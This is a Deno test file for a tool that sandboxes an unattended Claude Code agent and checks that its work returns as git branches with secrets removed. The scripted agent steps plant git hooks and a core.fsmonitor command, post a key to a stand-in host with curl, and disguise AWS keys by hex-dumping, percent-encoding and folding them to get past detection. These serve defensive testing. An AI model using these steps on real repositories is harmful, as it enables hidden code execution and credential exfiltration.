/**
 * The whole session as a person has it: `start --cwd` on their repository, the real
 * claude (driven by a scripted model) works unattended, and when it ends the work is in
 * the repository as branches under refs/heads/bot-bottle/<bottle>/, with nothing else
 * of the repository changed and no secret in any object. The same after SIGINT, after
 * SIGKILL and `cleanup`, for `up`/`down`, and for a directory outside git.
 */

import assert from "node:assert/strict";
import { dirname, join } from "node:path";
import { $, captureRaw } from "../shell.ts";
import { ROOT, runBotBottle, tempDir, toolRunFlags } from "../helpers.ts";
import { bottleOf, dockerTest, leftOf } from "./docker.ts";
import { randomBytes } from "../../lib/bytes.ts";
import { findSecrets } from "../../lib/secrets/mod.ts";
import {
  claudeManifest,
  type ModelScript,
  startUpstream,
  type Upstream,
  upstreamEnv,
} from "./upstream.ts";

/**
 * Shell that writes a fresh AWS key pair to creds.env. The key is made in the agent
 * from /dev/urandom: written into the script, it would travel in the conversation (and
 * be cut out of the model's requests: see the test of a secret in the conversation).
 */
const WRITE_CREDS = "id=AKIA$(head -c 4096 /dev/urandom | tr -dc 'A-Z2-7' | head -c 16); " +
  "key=$(head -c 4096 /dev/urandom | tr -dc 'A-Za-z0-9' | head -c 40); " +
  'printf \'AWS_ACCESS_KEY_ID=%s\\nAWS_SECRET_ACCESS_KEY=%s\\n\' "$id" "$key" > creds.env';

/** The key pair a kept bundle's `creds` branch holds (read back for the assertions). */
async function keptPair(repo: string, bundle: string): Promise<{ id: string; secret: string }> {
  await using dir = await tempDir();
  // A clone of the user's repository holds the bundle's prerequisites (their history).
  await captureRaw($`git clone -q --bare ${repo} ${dir.path}/r.git`);
  const r = `${dir.path}/r.git`;
  const fetched = await captureRaw(
    $`git -C ${r} fetch -q ${bundle} refs/heads/creds:refs/heads/creds`,
  );
  assert.equal(fetched.code, 0, fetched.stderr);
  const text = (await captureRaw($`git -C ${r} show creds:creds.env`)).stdout;
  const id = /AWS_ACCESS_KEY_ID=(AKIA[A-Z2-7]{16})/.exec(text)?.[1];
  const secret = /AWS_SECRET_ACCESS_KEY=([A-Za-z0-9]{40})/.exec(text)?.[1];
  assert.ok(id && secret, `the kept bundle holds the key pair: ${text}`);
  return { id, secret };
}

const manifest = (subnet: string, permissions = "unattended") =>
  claudeManifest(subnet, { agent: [`permissions: ${permissions}`] });

async function git(repo: string, args: string[]): Promise<string> {
  const r = await captureRaw(
    $`git -C ${repo} -c user.name=t -c user.email=t@t.invalid ${args}`,
  );
  if (r.code !== 0) throw new Error(`git ${args.join(" ")}: ${r.stderr}`);
  return r.stdout;
}

/** A project: a manifest beside a repository with one commit. */
async function project(dir: string, upstream: Upstream, permissions?: string) {
  const manifestFile = join(dir, "bot-bottle.yaml");
  await Deno.writeTextFile(manifestFile, manifest(upstream.subnet, permissions));
  const repo = join(dir, "repo");
  await Deno.mkdir(repo);
  await Deno.writeTextFile(join(repo, "README.md"), "# the user's project\n");
  await git(repo, ["init", "-q", "-b", "main"]);
  await git(repo, ["add", "."]);
  await git(repo, ["commit", "-qm", "user: first"]);
  const env = {
    ANTHROPIC_API_KEY: `sk-ant-api03-${crypto.randomUUID()}`,
    BOT_BOTTLE_MANIFEST: manifestFile,
    BOT_BOTTLE_STATE_DIR: join(dir, "state"),
    ...(await upstreamEnv(upstream)),
  };
  return { repo, env, state: join(dir, "state") };
}

/** Everything of a repository that bot-bottle must never change. */
async function snapshot(repo: string): Promise<Record<string, string>> {
  const hash = async (path: string) => {
    try {
      const data = await Deno.readFile(join(repo, ".git", path));
      return Array.from(
        new Uint8Array(await crypto.subtle.digest("SHA-256", data)),
        (b) => b.toString(16).padStart(2, "0"),
      ).join("");
    } catch {
      return "missing";
    }
  };
  const refs = (await git(repo, ["for-each-ref", "--format=%(objectname) %(refname)"]))
    .split("\n").filter((l) => l && !l.includes(" refs/heads/bot-bottle/")).join("\n");
  return {
    head: await hash("HEAD"),
    index: await hash("index"),
    config: await hash("config"),
    hooks: (await Array.fromAsync(Deno.readDir(join(repo, ".git", "hooks")))).map((e) => e.name)
      .toSorted().join(","),
    status: await git(repo, ["status", "--porcelain", "--ignored"]),
    refs,
  };
}

/** Every object in the repository (reachable or not) holds none of `needles`. */
async function inNoObject(repo: string, needles: string[]): Promise<void> {
  const all = await captureRaw(
    $`git -C ${repo} cat-file --batch-all-objects --batch`,
    "2m",
  );
  assert.equal(all.code, 0, all.stderr);
  for (const n of needles) assert.ok(!all.stdout.includes(n), "a secret is in an object at home");
}

/** The work a script leaves: a commit, a secret on its own branch, planted hooks, a scratch file. */
function workScript(tail: string[] = []): ModelScript {
  return {
    steps: [
      "echo ran-as-$(whoami)",
      "echo 'hello from the agent' > agent.txt && git add agent.txt && git commit -qm 'agent: add agent.txt' && echo committed",
      `git checkout -qb creds && ${WRITE_CREDS} && git add creds.env && git commit -qm 'agent: add credentials' && git checkout -q main && echo secret-committed`,
      "printf '#!/bin/sh\\nexit 1\\n' > .git/hooks/pre-push && printf '#!/bin/sh\\ntouch /tmp/hook-ran\\n' > .git/hooks/post-checkout && chmod +x .git/hooks/* && git config core.hooksPath .git/hooks && git config core.fsmonitor 'touch /tmp/fsmonitor-ran' && echo planted",
      "echo 'scratch notes' > notes.txt && echo untracked",
      ...tail,
    ],
    final: "ALL DONE",
  };
}

/** What every home-coming of `workScript` must leave in the host repository. */
async function assertWorkCameHome(
  repo: string,
  state: string,
  name: string,
  before: Record<string, string>,
  stderr: string,
): Promise<void> {
  const prefix = `bot-bottle/${name}`;
  const refs =
    (await git(repo, ["for-each-ref", "--format=%(refname:short)", "refs/heads/bot-bottle"]))
      .trim().split("\n").toSorted();
  assert.deepEqual(refs, [`${prefix}/main`, `${prefix}/wip`], stderr);
  assert.equal(
    (await git(repo, ["log", "--format=%s", `${prefix}/main`])).trim(),
    "agent: add agent.txt\nuser: first",
  );
  assert.equal(
    (await git(repo, ["show", `${prefix}/wip:notes.txt`])).trim(),
    "scratch notes",
    "the untracked file came home on the wip branch",
  );
  assert.deepEqual(await snapshot(repo), before, "HEAD, index, config, hooks, worktree unchanged");
  assert.match(stderr, new RegExp(`Work from ${name} came home to ${repo}`));
  assert.match(stderr, new RegExp(`${prefix}/main +1 commit`));
  assert.match(stderr, /Refused by the git gate/);
  assert.match(stderr, /creds:\n.*creds\.env:1: AWS access key ID \(rule aws-access-key-id\)/);
  const kept = /kept in (\S+\.bundle) \(mode 600\)/.exec(stderr)?.[1] ?? "";
  assert.ok(kept.startsWith(join(state, "work", name)), stderr);
  assert.equal((await Deno.stat(kept)).mode! & 0o777, 0o600);
  const heads = await captureRaw($`git -C ${repo} bundle list-heads ${kept}`);
  assert.match(heads.stdout, /refs\/heads\/creds/);
  const key = await keptPair(repo, kept);
  await inNoObject(repo, [key.id, key.secret]);
  assert.ok(!stderr.includes(key.id) && !stderr.includes(key.secret), "the secret was printed");
  assert.deepEqual(await leftOf(name), [], "nothing of the bottle remains");
}

function check(results: { output: string; isError: boolean }[], expected: string[]): void {
  assert.deepEqual(
    results.map((r) => r.isError),
    expected.map(() => false),
    JSON.stringify(results),
  );
  expected.forEach((e, i) =>
    assert.ok(results[i]!.output.includes(e), `step ${i}: ${results[i]!.output}`)
  );
}

/** Whether git-lfs is installed here (CI installs it; the Git LFS checks need it). */
const hasLfs = (await captureRaw($`git lfs version`)).code === 0;

dockerTest(
  "start --cwd: claude works unattended and its work comes home as branches, nothing else changed",
  async () => {
    if (!hasLfs) {
      // deno-lint-ignore no-console
      console.error("skipping the Git LFS part of this test: git-lfs is not installed");
    }
    await using upstream = await startUpstream(["api.anthropic.com"], "ok", {
      // A Git LFS file is as the user left it in the agent's eyes; the agent changes it.
      script: workScript([
        // A host outside the allowlist: refused, and the person is told at the end.
        "curl -sS -m 5 https://outside.fake.test/ 2>&1 | grep -o 'response 403'",
        ...(hasLfs
          ? [
            // (Its fsmonitor is off: the step before planted one, which makes files when run.)
            `[ -z "$(git -c core.fsmonitor=false status --short model.bin)" ] && ` +
            `head -c 2000 /dev/urandom > model.bin && echo lfs-clean`,
          ]
          : []),
      ]),
    });
    await using dir = await tempDir();
    const { repo, env, state } = await project(dir.path, upstream);
    if (hasLfs) {
      // The user's first commit also holds a Git LFS file: its content is in the tree.
      await git(repo, ["lfs", "install", "--local", "--skip-repo"]);
      await git(repo, ["lfs", "track", "*.bin"]);
      await Deno.writeFile(join(repo, "model.bin"), randomBytes(3000));
      await git(repo, ["add", "."]);
      await git(repo, ["commit", "-q", "--amend", "-m", "user: first"]);
    }
    // The user's own work in progress goes in with the tree; it is not the agent's.
    await Deno.writeTextFile(join(repo, "TODO.md"), "the user's own notes\n");
    const before = await snapshot(repo);
    const plan = await runBotBottle(["plan", "claude", "--cwd"], { cwd: repo, env });
    assert.match(plan.stdout, /permissions: unattended/);
    assert.match(plan.stdout, /work comes home to .*repo as refs\/heads\/bot-bottle\/claude-/);
    const r = await runBotBottle(["start", "claude", "--cwd", "--", "-p", "do the work"], {
      cwd: repo,
      env,
    });
    assert.equal(
      r.code,
      0,
      `${r.stdout}\n${JSON.stringify(await upstream.toolResults())}\n${r.stderr}`,
    );
    assert.match(r.stdout, /ALL DONE/);
    check(await upstream.toolResults(), [
      "ran-as-node",
      "committed",
      "secret-committed",
      "planted",
      "untracked",
      "response 403",
      ...(hasLfs ? ["lfs-clean"] : []),
    ]);
    const name = /Starting bottle (claude-[a-z0-9]{6})/.exec(r.stderr)![1]!;
    await assertWorkCameHome(repo, state, name, before, r.stderr);
    // Told after the bottle went: what its proxy refused.
    assert.match(
      r.stderr,
      new RegExp(
        `Removing bottle ${name}\\nWhile ${name} ran, the bottle refused[^\\n]*\\n.*connections? or requests? to [^\\n]*outside\\.fake\\.test`,
      ),
    );
    // The wip sits on the user's own uncommitted work (put on the agent's new main), so
    // its own change is the agent's alone, and the summary says how to see just that.
    const wip = `bot-bottle/${name}/wip`;
    assert.equal(
      await git(repo, ["diff", "--name-only", `${wip}~1`, wip]),
      hasLfs ? "model.bin\nnotes.txt\n" : "notes.txt\n",
    );
    if (hasLfs) {
      // The changed LFS file came home as LFS does it: a pointer, its content in the store.
      const pointer = await git(repo, ["show", `${wip}:model.bin`]);
      assert.match(pointer, /^version https:\/\/git-lfs\.github\.com\/spec\/v1\noid sha256:/);
      const content = await $`git -C ${repo} lfs smudge`.stdinText(pointer).bytes();
      assert.equal(content.length, 2000);
      const sha = Array.from(
        new Uint8Array(await crypto.subtle.digest("SHA-256", new Uint8Array(content))),
        (b) => b.toString(16).padStart(2, "0"),
      ).join("");
      assert.match(pointer, new RegExp(`^oid sha256:${sha}$`, "m"));
    }
    assert.equal(
      await git(repo, ["diff", "--name-only", `bot-bottle/${name}/main`, `${wip}~1`]),
      "TODO.md\n",
    );
    assert.match(
      r.stderr,
      new RegExp(`git diff ${wip}~1 ${wip} +# the agent's uncommitted changes alone`),
    );
  },
);

dockerTest(
  "start --cwd with a 40 MB binary file: it goes in (a key in another binary stays out) and the work comes home",
  async () => {
    await using upstream = await startUpstream(["api.anthropic.com"], "ok", {
      script: {
        steps: [
          "wc -c < assets/blob.bin; ls assets; echo more >> README.md && git commit -qam 'agent: more' && echo committed",
        ],
        final: "BIG DONE",
      },
    });
    await using dir = await tempDir();
    const { repo, env } = await project(dir.path, upstream);
    // Random bytes: decoded as UTF-8 and scanned whole, this took ~19 s, time enough for
    // the reaper to take the owner's blocked heartbeat for a dead one and remove the bottle.
    const blob = randomBytes(40 << 20);
    blob[0] = 0;
    await Deno.mkdir(join(repo, "assets"));
    await Deno.writeFile(join(repo, "assets", "blob.bin"), blob);
    const key = new TextEncoder().encode(`\nid = "AKIA${"QYLPMN5HFIQR7XZB"}"\n`);
    const keyed = new Uint8Array(4096 + key.length);
    keyed.set(blob.subarray(0, 4096));
    keyed.set(key, 4096);
    await Deno.writeFile(join(repo, "assets", "keyed.bin"), keyed);
    await git(repo, ["add", "."]);
    await git(repo, ["commit", "-qm", "user: assets"]);
    const r = await runBotBottle(["start", "claude", "--cwd", "--", "-p", "look"], {
      cwd: repo,
      env,
    });
    assert.equal(r.code, 0, `${r.stdout}\n${r.stderr}`);
    assert.match(r.stdout, /BIG DONE/);
    assert.match(r.stderr, /assets\/keyed\.bin:\d+ \(rule aws-access-key-id\)/);
    check(await upstream.toolResults(), [`${blob.length}\nblob.bin\ncommitted`]);
    const name = /Starting bottle (claude-[a-z0-9]{6})/.exec(r.stderr)![1]!;
    assert.equal(
      (await git(repo, ["log", "--format=%s", "-1", `bot-bottle/${name}/main`])).trim(),
      "agent: more",
    );
  },
);

dockerTest(
  "a secret in the conversation is cut out of the model requests and the session goes on",
  async () => {
    // The key is made in the agent: the script itself carries none.
    const key = "AKIA$(head -c 4096 /dev/urandom | tr -dc 'A-Z2-7' | head -c 16)";
    const secretKey = "$(head -c 4096 /dev/urandom | tr -dc 'A-Za-z0-9' | head -c 40)";
    // Long outputs, before the key and after it: every model request after the first
    // three is past 128 KiB, so the bundle's scan worker scans each again only around
    // where it changed (`RecentScans`), and the key, once 56 KB back in the conversation,
    // is cut out of each from what the scan before found.
    const long = Array.from(
      { length: 5 },
      (_, i) => `yes 'step ${i}: the quick brown fox jumps over the lazy dog' | head -c 28000`,
    );
    await using upstream = await startUpstream(["api.anthropic.com"], "ok", {
      script: {
        steps: [
          ...long.slice(0, 3),
          `echo "found ${key} in the logs"`,
          ...long.slice(3),
          // Percent-encoded in a URL: found decoded, cut out with the run it is written in.
          `printf 'callback: https://hooks.example/cb?k=%s&page=2\\n' "$(printf %s "${key}" | od -An -tx1 | tr -d ' \\n' | sed 's/../%&/g')"`,
          // A file holding it, hex-dumped: found in the dump's bytes, the dump cut out whole
          // (its text column, which shows the key in pieces, too).
          `printf 'id=%s\\n' "${key}" > k.txt && od -A x -t x1z k.txt && rm k.txt`,
          // As od prints it unasked (octal words) and with -c (a character in each cell).
          `printf 'id=%s\\n' "${key}" > k.txt && od k.txt && od -c k.txt && rm k.txt`,
          // A narrow dump: four bytes a line.
          `printf 'id=%s\\n' "${key}" > k.txt && od -w4 -t x1 k.txt && rm k.txt`,
          // Cut into lines of five, and its base64 into lines of eight: each line too short to
          // hold the key, read as a block (from its first line, which starts the tool
          // result's string).
          `printf 'id=%s\\n' "${key}" > k.txt && fold -w 5 k.txt && rm k.txt`,
          `printf 'id=%s\\n' "${key}" > k.txt && base64 -w 8 k.txt && rm k.txt`,
          // AWS credentials in lines of five: the key's ID (its line's 40 characters end at a
          // cut) runs on into the label of the secret key, which has no prefix of its own; the
          // lines that hold a space are the block's too. Cut out, the ID sets the secret key
          // apart, and that is cut out in turn.
          `printf '[default]\\naws_access_key_id = %s\\naws_secret_access_key = %s\\n' "${key}" "${secretKey}" > c.txt && fold -w 5 c.txt && rm c.txt`,
          "echo second step ran && echo more >> README.md && git commit -qam 'agent: after the key' && echo committed",
        ],
        final: "CUT DONE",
      },
    });
    await using dir = await tempDir();
    const { repo, env } = await project(dir.path, upstream);
    const r = await runBotBottle(["start", "claude", "--cwd", "--", "-p", "look"], {
      cwd: repo,
      env,
    });
    assert.equal(r.code, 0, `${r.stdout}\n${r.stderr}`);
    assert.match(r.stdout, /CUT DONE/);
    // What the model was told the first command printed, and that the second one ran.
    check(await upstream.toolResults(), [
      ...[0, 1, 2].map((i) => `step ${i}: the quick brown fox`),
      "found [secret cut out by bot-bottle] in the logs",
      ...[3, 4].map((i) => `step ${i}: the quick brown fox`),
      "callback: [secret cut out by bot-bottle]",
      "[secret cut out by bot-bottle]\n000018",
      "[secret cut out by bot-bottle]\n0000030\n[secret cut out by bot-bottle]\n0000030",
      "[secret cut out by bot-bottle]\n0000030",
      "[secret cut out by bot-bottle]\n",
      "[secret cut out by bot-bottle]",
      "[defa\nult]\n",
      "second step ran\ncommitted",
    ]);
    // Of the credentials, what the model saw: the label's lines and what was cut out, and at
    // most the secret key's short last line (four characters of its forty; which rule
    // names it, and whether the ID's lines go with it, depends on the random values).
    const credentials = (await upstream.toolResults())[12]!.output.split("\n")
      .filter((l) =>
        !/^(\[defa|ult\]|aws_a|ccess|_key_|id = |\[secret cut out by bot-bottle\])$/.test(l)
      );
    assert.ok(
      credentials.filter((l) => l !== "").length <= 1 && credentials.every((l) => l.length <= 4),
      `the model saw of the credentials: ${JSON.stringify(credentials)}`,
    );
    const bodies = (await upstream.received()).map((e) => String(e.body ?? ""));
    assert.ok(bodies.some((b) => b.includes("[secret cut out by bot-bottle]")));
    assert.ok(
      bodies.filter((b) => b.includes("[secret cut out by bot-bottle]") && b.length > 128 * 1024)
        .length >= 4,
      "the requests with the key cut out were past 128 KiB",
    );
    assert.ok(
      !bodies.some((b) => /AKIA[A-Z2-7]{16}|%41%4b%49%41|41 4b 49 41|A {3}K {3}I {3}A/i.test(b)),
      "no model request carried the key, as written, percent-encoded, dumped or spaced out",
    );
    assert.match(
      r.stderr,
      /Cut out before they went: secrets \(aws-access-key-id(, aws-secret-access-key|, generic-secret)?\) in \d+ requests? to the agent's model at api\.anthropic\.com/,
    );
    const name = /Starting bottle (claude-[a-z0-9]{6})/.exec(r.stderr)![1]!;
    assert.equal(
      (await git(repo, ["log", "--format=%s", "-1", `bot-bottle/${name}/main`])).trim(),
      "agent: after the key",
    );
  },
);

/** A Google API key of the real format, random. */
function googleKey(): string {
  const ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
  const body = [...crypto.getRandomValues(new Uint8Array(33))].map((b) => ALPHABET[b % 64]);
  return `AIzaSy${body.join("")}`;
}

dockerTest(
  "public_values: a key declared public goes in, out to an allowed host, into the model's conversation and home; another key of its kind does not",
  async () => {
    const grep = "$(grep -o 'AIza[A-Za-z0-9_-]*' web/firebase.js)";
    const other = "AIzaSy$(head -c 4096 /dev/urandom | tr -dc 'A-Za-z0-9' | head -c 33)";
    const post = (value: string) =>
      `curl -sS -m 10 -o /dev/null -w 'status %{http_code}\n' --data "key=${value}" https://code.fake.test/echo`;
    await using upstream = await startUpstream(["api.anthropic.com", "code.fake.test"], "ok", {
      script: {
        steps: [
          "cat web/firebase.js; test -e web/server.js && echo server-present || echo server-absent",
          post(grep),
          post(other),
          `printf 'export const key = "%s";\n' "${grep}" > key.js && git add key.js && git commit -qm 'agent: key' && echo committed`,
        ],
        final: "PUBLIC DONE",
      },
    });
    await using dir = await tempDir();
    const { repo, env } = await project(dir.path, upstream);
    const open = googleKey();
    const secret = googleKey();
    await Deno.writeTextFile(
      env.BOT_BOTTLE_MANIFEST,
      claudeManifest(upstream.subnet, {
        agent: ["permissions: unattended"],
        egress: ["allow: [code.fake.test]"],
        bottle: [`public_values: ["${open}"]`],
      }),
    );
    await Deno.mkdir(join(repo, "web"));
    await Deno.writeTextFile(
      join(repo, "web", "firebase.js"),
      `export const apiKey = "${open}";
`,
    );
    await Deno.writeTextFile(
      join(repo, "web", "server.js"),
      `export const apiKey = "${secret}";
`,
    );
    await git(repo, ["add", "."]);
    await git(repo, ["commit", "-qm", "user: web"]);
    const plan = await runBotBottle(["plan", "claude", "--cwd"], { cwd: repo, env });
    assert.equal(plan.code, 0, plan.stderr);
    assert.ok(plan.stdout.includes(`declared public: ${open.slice(0, 6)}... (39 characters)`));
    assert.ok(!plan.stdout.includes(open), "plan shows a public value by its start only");
    const r = await runBotBottle(["start", "claude", "--cwd", "--", "-p", "use the key"], {
      cwd: repo,
      env,
    });
    assert.equal(r.code, 0, `${r.stdout}\n${r.stderr}`);
    assert.match(r.stdout, /PUBLIC DONE/);
    assert.match(r.stderr, /web\/server\.js:1 \(rule gcp-api-key\)/, "the other key stays out");
    assert.ok(!r.stderr.includes("firebase.js"), r.stderr);
    check(await upstream.toolResults(), [
      `export const apiKey = "${open}";\nserver-absent`,
      "status 200",
      "status 403",
      "committed",
    ]);
    const uploads = (await upstream.received()).filter((e) => e.path === "/echo");
    assert.deepEqual(uploads.map((e) => e.body), [`key=${open}`], "only the public key went out");
    const name = /Starting bottle (claude-[a-z0-9]{6})/.exec(r.stderr)![1]!;
    assert.equal(
      await git(repo, ["show", `bot-bottle/${name}/main:key.js`]),
      `export const key = "${open}";\n`,
    );
  },
);

dockerTest("permissions: ask keeps Claude Code's prompts, so in -p it runs nothing", async () => {
  await using upstream = await startUpstream(["api.anthropic.com"], "ok", {
    script: { steps: ["touch /tmp/asked && echo ran"], final: "GAVE UP" },
  });
  await using dir = await tempDir();
  const { repo, env } = await project(dir.path, upstream, "ask");
  const plan = await runBotBottle(["plan", "claude"], { cwd: repo, env });
  assert.match(plan.stdout, /permissions: ask/);
  const r = await runBotBottle(["start", "claude", "--", "-p", "try"], { cwd: repo, env });
  assert.equal(r.code, 0, r.stderr);
  const [result] = await upstream.toolResults();
  assert.ok(result, "claude answered the tool call");
  assert.ok(!result.output.includes("ran"), `the command ran: ${result.output}`);
  assert.match(result.output, /permission|approv/i);
});

/** Starts `start --cwd` in the background; resolves once `steps` tool results are in. */
async function startUntil(
  upstream: Upstream,
  repo: string,
  env: Record<string, string>,
  steps: number,
): Promise<{ child: Deno.ChildProcess; name: string }> {
  const child = new Deno.Command(Deno.execPath(), {
    args: [
      "run",
      "--quiet",
      ...toolRunFlags(),
      join(ROOT, "main.ts"),
      "start",
      "claude",
      "--cwd",
      "--",
      "-p",
      "work",
    ],
    cwd: repo,
    env: { ...env, NO_COLOR: "1" },
    stdin: "null",
    stdout: "null",
    stderr: "piped",
  }).spawn();
  for (let i = 0; i < 900; i++) {
    const name = (await upstream.toolResults()).length >= steps
      ? await bottleOf(env.BOT_BOTTLE_STATE_DIR!)
      : undefined;
    if (name) return { child, name };
    await new Promise((r) => setTimeout(r, 200));
  }
  child.kill("SIGKILL");
  throw new Error("start never got that far");
}

dockerTest(
  "SIGINT in the middle of a session: the work comes home before the bottle goes",
  async () => {
    await using upstream = await startUpstream(["api.anthropic.com"], "ok", {
      script: workScript(["echo SLOW"]),
    });
    await using dir = await tempDir();
    const { repo, env, state } = await project(dir.path, upstream);
    const before = await snapshot(repo);
    // After the sixth step the fake holds the model's answer (SLOW): claude is mid-session.
    const { child, name } = await startUntil(upstream, repo, env, 6);
    child.kill("SIGINT");
    const output = await child.output();
    const stderr = new TextDecoder().decode(output.stderr);
    assert.equal(output.code, 130, stderr);
    assert.match(stderr, /Interrupted by SIGINT/);
    await assertWorkCameHome(repo, state, name, before, stderr);
  },
);

dockerTest(
  "SIGKILL of start, no command typed: the reaper brings the work home, then removes the bottle",
  async () => {
    await using upstream = await startUpstream(["api.anthropic.com"], "ok", {
      script: workScript(["echo SLOW"]),
    });
    await using dir = await tempDir();
    const { repo, env, state } = await project(dir.path, upstream);
    const before = await snapshot(repo);
    const { child, name } = await startUntil(upstream, repo, env, 6);
    const killed = Date.now();
    child.kill("SIGKILL");
    // The orphaned `docker exec` still holds the stderr pipe: wait for the exit only.
    await child.status;
    await child.stderr.cancel();
    let left = await leftOf(name);
    assert.notDeepEqual(left, [], "the kill itself removes nothing");
    // Nobody runs cleanup: the reaper notices the stale heartbeat and takes the bottle.
    while (left.length > 0 && Date.now() - killed < 30_000) {
      await new Promise((r) => setTimeout(r, 1000));
      left = await leftOf(name);
    }
    assert.deepEqual(
      left,
      [],
      `still there ${Math.round((Date.now() - killed) / 1000)} s after the kill`,
    );
    // The reaper's report says what came home and where the refused work was kept.
    const report = await Deno.readTextFile(join(state, "reaper", `${name}.log`));
    await assertWorkCameHome(repo, state, name, before, report);
    // Its audit log was kept: `logs` still shows what the agent tried.
    const logs = await runBotBottle(["logs", name], { env });
    assert.equal(logs.code, 0, logs.stderr);
    assert.match(logs.stdout, /egress/);
    const ls = await runBotBottle(["ls", "--all"], { env });
    assert.match(ls.stdout, new RegExp(`${name} .*removed \\(log kept\\)`));
  },
);

dockerTest(
  "--cwd leaves out ignored files and files holding a secret, and says so; --include carries one",
  async () => {
    await using upstream = await startUpstream(["api.anthropic.com"], "ok");
    await using dir = await tempDir();
    const { repo, env } = await project(dir.path, upstream);
    const token = `ghp_${crypto.randomUUID().replaceAll("-", "").slice(0, 36).padEnd(36, "x")}`;
    await Deno.writeTextFile(join(repo, ".gitignore"), ".env\nbuild/\n");
    await Deno.writeTextFile(
      join(repo, ".env"),
      `DATABASE_PASSWORD=hunter2-${crypto.randomUUID()}\n`,
    );
    await Deno.mkdir(join(repo, "build"));
    await Deno.writeTextFile(join(repo, "build", "out.js"), "built\n");
    await Deno.mkdir(join(repo, "config"));
    await Deno.writeTextFile(join(repo, "config", "settings.py"), `GITHUB_TOKEN = "${token}"\n`);
    await git(repo, ["add", "."]);
    await git(repo, ["commit", "-qm", "user: config"]);
    // A key committed once and deleted again: it stays in the history.
    // Random, and one the detector finds: drawn from a UUID's hex, one key in sixteen was
    // too orderly to be one (the test failed that often); in the base32 alphabet, rarely.
    const B32 = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
    let key: string;
    do {
      key = `AKIA${
        [...crypto.getRandomValues(new Uint8Array(16))].map((b) => B32[b % 32]).join("")
      }`;
    } while (findSecrets(`aws_access_key_id = ${key}`).length === 0);
    await Deno.writeTextFile(join(repo, "creds.txt"), `aws_access_key_id = ${key}\n`);
    await git(repo, ["add", "creds.txt"]);
    await git(repo, ["commit", "-qm", "user: oops"]);
    await git(repo, ["rm", "-q", "creds.txt"]);
    await git(repo, ["commit", "-qm", "user: undo"]);
    // The .env staged once by mistake and unstaged again: its blob stays in .git/objects.
    await git(repo, ["add", "-f", ".env"]);
    await git(repo, ["rm", "-q", "--cached", ".env"]);
    await Deno.writeTextFile(join(repo, "draft.md"), "an untracked draft\n");
    // A script Windows PowerShell's `>` wrote: UTF-16, binary to git, the key on line 2.
    const script = `# setup\r\n$env:AWS_ACCESS_KEY_ID = "${key}"\r\n`;
    await Deno.writeFile(
      join(repo, "config", "setup.ps1"),
      new Uint8Array([0xff, 0xfe, ...[...script].flatMap((c) => [c.charCodeAt(0), 0])]),
    );
    // A submodule with its own .gitignore, and an ignored file in it.
    const lib = join(dir.path, "lib");
    await Deno.mkdir(lib);
    await git(lib, ["init", "-q", "-b", "main"]);
    await Deno.writeTextFile(join(lib, ".gitignore"), ".env\n");
    await Deno.writeTextFile(join(lib, "lib.ts"), "export {};\n");
    await git(lib, ["add", "."]);
    await git(lib, ["commit", "-qm", "lib"]);
    await git(repo, [
      "-c",
      "protocol.file.allow=always",
      "submodule",
      "add",
      "-q",
      lib,
      "vendor/lib",
    ]);
    await git(repo, ["commit", "-qm", "user: submodule"]);
    await Deno.writeTextFile(join(repo, "vendor", "lib", ".env"), "LIB_DEBUG=1\n");

    // Every object the agent's repository holds, printed and searched.
    const look =
      "ls -A; git status --short; cat config/settings.py 2>/dev/null || echo no-settings; " +
      "for o in $(git cat-file --batch-all-objects --batch-check='%(objectname)'); do " +
      'git cat-file -p "$o"; done 2>/dev/null | grep -c -e ghp_ -e hunter2 -e AKIA | sed "s/^/found: /"';
    const up = await runBotBottle(["up", "claude", "--cwd"], { cwd: repo, env });
    assert.equal(up.code, 0, up.stderr);
    const name = up.stdout.trim();
    // Asserted once the bottle is down: a failed check above is not hidden by these.
    let down: Awaited<ReturnType<typeof runBotBottle>>;
    try {
      assert.match(up.stderr, /Left out of the agent because they hold a secret/);
      // How much goes in, said as it starts (a large repository takes a while).
      assert.match(up.stderr, /Copying \S+ to \/home\/node\/workspace \((\d+ kB|\d+(\.\d)? MB)\)/);
      assert.match(up.stderr, /config\/settings\.py:1 \(rule github-token\)/);
      assert.match(up.stderr, /config\/setup\.ps1:2 \(rule aws-access-key-id\)/);
      // Its version in the history stays out too.
      assert.match(
        up.stderr,
        /Left out of the history the agent gets, because they hold a secret:\n {2}creds\.txt at [0-9a-f]{12}:1 \(rule aws-access-key-id\)\n {2}and 1 version of the files above\n/,
      );
      assert.match(up.stderr, /Left out, as \.gitignore says: \.env, build\/, vendor\/lib\/\.env/);
      assert.ok(!up.stderr.includes(token), "the token was printed");
      const r = await runBotBottle(["exec", name, "--", "sh", "-c", look], { env });
      assert.equal(r.code, 0, r.stderr);
      const files = r.stdout.split("\n");
      for (const f of [".git", ".gitignore", "README.md", "draft.md"]) {
        assert.ok(files.includes(f), `${f} went in: ${r.stdout}`);
      }
      // config/ held only the flagged file.
      for (const f of [".env", "build", "config"]) assert.ok(!files.includes(f), r.stdout);
      assert.match(r.stdout, /no-settings/);
      // No object holds the token or the .env's password (staged once, in no commit).
      assert.match(r.stdout, /^found: 0$/m);
      // Nor can the agent have the gate hand it the history whole (the gate holds the
      // left-out versions, to check the links of pushes): it serves no fetch.
      const clone = await runBotBottle([
        "exec",
        name,
        "--",
        "sh",
        "-c",
        'git clone -q "$(git remote get-url origin)" /tmp/whole 2>&1; echo "clone: $?"; ' +
        "git -C /tmp/whole log -p 2>/dev/null | grep -c ghp_ || true",
      ], { env });
      assert.match(clone.stdout, /service not enabled/);
      assert.doesNotMatch(clone.stdout, /^clone: 0$/m);
      assert.match(r.stdout, /^\?\? draft\.md$/m);
      assert.ok(!/ D config/.test(r.stdout), "the left-out tracked file is not seen as deleted");
      const sub = await runBotBottle(["exec", name, "--", "ls", "-A", "vendor/lib"], { env });
      assert.equal(sub.stdout, ".gitignore\nlib.ts\n", "the submodule went in without its .env");
      const hooks = await runBotBottle(["exec", name, "--", "ls", ".git/hooks"], { env });
      assert.equal(hooks.stdout.trim(), "", "no host hook went in");
      // Work inside the submodule, whose git did not go in, still comes home.
      const edit = await runBotBottle(
        ["exec", name, "--", "sh", "-c", "echo 'export const x = 1;' >> vendor/lib/lib.ts"],
        { env },
      );
      assert.equal(edit.code, 0, edit.stderr);
    } finally {
      down = await runBotBottle(["down", name], { env });
    }
    assert.equal(down.code, 0, down.stderr);
    assert.match(down.stderr, new RegExp(`bot-bottle/${name}/submodule/vendor/lib +work inside`));
